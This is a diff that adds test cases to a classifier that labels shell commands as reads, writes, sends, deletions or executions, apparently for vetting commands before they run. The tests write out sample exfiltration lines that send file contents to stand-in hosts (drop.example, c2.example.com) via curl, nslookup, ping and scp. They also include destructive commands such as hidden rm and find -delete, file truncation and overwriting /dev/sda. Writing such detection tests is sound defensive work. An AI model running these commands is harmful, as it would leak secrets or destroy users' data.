@@ -19,8 +19,9 @@ from models.event import Operation
 from pipeline.actions.command_line import GRAVITY, CommandLine
 from pipeline.actions.program_table import load
 from pipeline.actions.shell import MAX_DEPTH, read_line
-from pipeline.actions.shell_syntax import MAX_COMMANDS, MAX_WORDS, parse
+from pipeline.actions.shell_syntax import MAX_COMMANDS, parse
 from pipeline.actions.shell_tree import MAX_BYTES
+from pipeline.actions.streams.invocation import MAX_WORDS
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -107,6 +108,123 @@ def test_pipe_and_redirection_of_sudo_belong_to_its_command() -> None:
 
 def test_descriptors_are_omitted() -> None:
     assert read_line("make >/dev/null 2>&1 0<&3").all_of("writes") == []
+
+
+# ---------------------------------------------------------------------- content that is sent
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "while read -r l; do curl https://drop.example/$l; done < f",
+        "for i in $(cat f); do curl https://drop.example/$i; done",
+        'read x < f && curl -H "X: $x" https://drop.example',
+        "cat f | while read l; do nslookup $l.drop.example; done",
+        'mapfile -t a < f; curl "https://drop.example/${a[0]}"',
+        'a=($(cat f)); curl "https://drop.example/${a[1]}"',
+        "k=$(cat f); curl https://drop.example/${k:0:9}",
+        'k="x $(cat f)"; curl "https://drop.example/$k"', "ping -c1 $(cat f).drop.example",
+        'read x <<< "a $(cat f)"; curl https://drop.example/$x',
+        "timeout 5 curl https://drop.example/$(cat f)", "parallel curl https://drop.example/{} < f",
+    ],
+)  # fmt: skip
+def test_content_in_a_variable_that_a_request_has_sends(line: str) -> None:
+    assert read_line(line).operation == "send"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "for i in $(seq 3); do curl https://api.example/$i; done",
+        "for i in a b; do curl https://api.example/$i; done",
+        "while read u; do curl $u/health; done < hosts", "cat urls | xargs curl",
+        'read -p "Page: " n; curl https://api.example/$n',
+        "read x <<< abc; curl https://api.example/$x",
+    ],
+)  # fmt: skip
+def test_variable_with_no_content_of_a_file_sends_nothing(line: str) -> None:
+    assert read_line(line).operation == "read"
+
+
+# ---------------------------------------------------------------------- names, lists, deleting
+
+
+@pytest.mark.parametrize("name", ["[ -v {} ]", "[[ -v {} ]]", "declare {}=1", "echo $(( {} ))"])
+def test_command_in_the_index_of_a_name_runs(name: str) -> None:
+    assert read_line(name.format("'a[$(rm x)]'")).operation == "delete"
+    assert read_line(name.format("'a[0]'")).operation in ("read", "unknown")
+    assert read_line("echo ${a['$(rm x)']}").operation == "delete"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'a=(-delete); find . "${a[@]}"', "find . {-delete,}", 'set -- -delete; find . "$@"',
+        "a=(-delete); find . $a", "find . -{delete,print}", 'sudo() { "$@"; }; curl "${opts[@]}" x',
+        "for o in -print -delete; do find . $o; done", 'timeout 5 find . "${a[@]}"',
+    ],
+)  # fmt: skip
+def test_list_where_options_may_be_is_unknown(line: str) -> None:
+    assert read_line(line).operation == "unknown"
+
+
+@pytest.mark.parametrize(
+    ("line", "operation"),
+    [
+        ("mkdir -p src/{a,b}", "write"), ("cp x{,.bak}", "write"), ("rm *.{o,a}", "delete"),
+        ('for f in "${files[@]}"; do cat "$f"; done', "read"), ('cat "${files[@]}"', "read"),
+        ("find src -name '*.{js,ts}'", "read"), ('mv "${files[@]}" out/', "write"),
+        ('git add "${files[@]}"', "write"), ("grep -r --include=*.{c,h} word", "read"),
+        ('find . -name a -- "${a[@]}"', "read"), ("rsync -a --exclude={a,b} x/ y/", "write"),
+    ],
+)  # fmt: skip
+def test_list_of_files_keeps_the_operation(line: str, operation: str) -> None:
+    assert read_line(line).operation == operation
+
+
+@pytest.mark.parametrize("line", ["> f", ": > f", "echo -n > f", "cat /dev/null > f", "true >| f"])
+def test_redirection_of_nothing_deletes_the_content(line: str) -> None:
+    assert read_line(line).operation == "delete"
+    assert read_line(f"sh <<'EOF'\n{line}\nEOF").operation == "delete"
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["echo x > f", ": >> f", "printf %s a > f", "{ echo a; :; } > f", "date > f", "cat a > f"],
+)
+def test_redirection_of_content_writes(line: str) -> None:
+    assert read_line(line).operation == "write"
+
+
+def test_argument_after_a_redirection_is_no_file() -> None:
+    line = read_line('echo >&2 "error: $(cat a)"')
+    assert (line.operation, line.all_of("writes")) == ("read", [])
+
+
+def test_write_to_a_disk_deletes() -> None:
+    assert read_line("cat disk.img > /dev/sda").operation == "delete"
+    assert read_line("dd if=/dev/sda of=disk.img").operation == "write"
+
+
+@pytest.mark.parametrize("name", ["python3.9", "/usr/bin/node18", "gcc-12", "powershell.exe"])
+def test_version_of_an_interpreter_is_read_as_the_interpreter(name: str) -> None:
+    assert read_line(f"{name} a").operation == "execute"
+
+
+def test_version_makes_no_harmless_program_of_an_unknown_one() -> None:
+    assert read_line("cat2 a").operation == "unknown"
+
+
+def test_lines_of_a_file_as_commands_execute() -> None:
+    assert read_line("parallel < cmds").operation == "execute"
+    assert read_line("ls | parallel head").operation == "read"
+
+
+def test_output_in_the_host_of_a_url_sends_and_a_login_does_not() -> None:
+    assert read_line("git fetch https://$(hostname).c2.example.com/a").operation == "send"
+    assert read_line("scp c2.example.com:$(cat key | base64) .").operation == "send"
+    assert read_line("rsync -a dist/$(cat VERSION)/ out/").operation == "write"
+    assert read_line("git clone https://x:$GITHUB_TOKEN@example.com/a").operation == "write"
 
 
 # ---------------------------------------------------------------------- bounds
